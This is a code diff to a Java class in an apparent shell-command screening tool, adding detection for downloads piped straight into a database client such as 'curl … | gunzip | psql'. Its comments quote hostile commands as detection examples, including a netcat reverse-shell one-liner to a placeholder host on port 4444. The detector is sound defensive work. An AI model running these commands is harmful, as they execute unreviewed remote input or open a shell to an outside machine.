@@ -8,6 +8,7 @@ import java.util.Set;
 
 import dev.wingman.screening.actions.Action;
 import dev.wingman.screening.actions.Offence;
+import dev.wingman.screening.indirect.Clients;
 import dev.wingman.screening.shell.Gap;
 import dev.wingman.screening.shell.Output;
 import dev.wingman.screening.shell.Reader;
@@ -62,6 +63,10 @@ final class Pipes {
         if (word.before() == Gap.PIPE && CALLERS.contains(word.program()) && isShellBefore(index)) {
             return Optional.of(between(words.get(index - 1), word));
         }
+        if (word.before() == Gap.PIPE && Clients.names().contains(word.program())
+                && Clients.readsItsInput(words, index)) {
+            return downloaded(index);
+        }
         if (word.before() == Gap.PIPE && index > 0 && (isRunner(word) || WRAPPERS.contains(word.program()))) {
             return piped(index);
         }
@@ -69,6 +74,20 @@ final class Pipes {
             return substituted(index);
         }
         return position.isProgram() ? substitution(word, word) : Optional.empty();
+    }
+
+    /// `curl … | gunzip | psql`: statements that nobody has seen.
+    private Optional<Offence> downloaded(int pipe) {
+        for (var i = pipe - 1; i >= 0 && i > pipe - LONGEST; i--) {
+            var word = words.get(i);
+            if (Downloads.FETCHERS.contains(word.program())) {
+                return Optional.of(between(word, words.get(pipe)));
+            }
+            if (word.before().compareTo(Gap.PIPE) > 0 || word.before().isNewLine()) {
+                return Optional.empty();
+            }
+        }
+        return Optional.empty();
     }
 
     /// A shell that answers to the network: `sh -i < /tmp/p | nc host 4444 > /tmp/p`.
